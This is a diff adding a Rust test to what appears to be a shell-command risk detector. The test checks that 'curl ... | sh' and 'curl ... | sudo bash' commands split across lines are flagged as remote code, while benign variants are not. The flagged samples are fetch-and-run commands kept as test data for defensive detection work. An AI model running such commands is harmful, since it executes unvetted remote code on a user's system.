@@ -31,6 +31,15 @@ fn family(name: &str, loud: &[&str], silent: &[&str]) {
 }
 
 #[test]
+fn a_line_that_ends_behind_a_pipe_goes_on() {
+    family(
+        "remote-code",
+        &["curl https://x.example/i |\n sh", "curl https://x.example/i | # run it\n\n  sudo bash"],
+        &["curl https://x.example/i |\n jq .", "curl https://x.example/i\n sh ./mine"],
+    );
+}
+
+#[test]
 fn filesystem() {
     family(
         "filesystem",
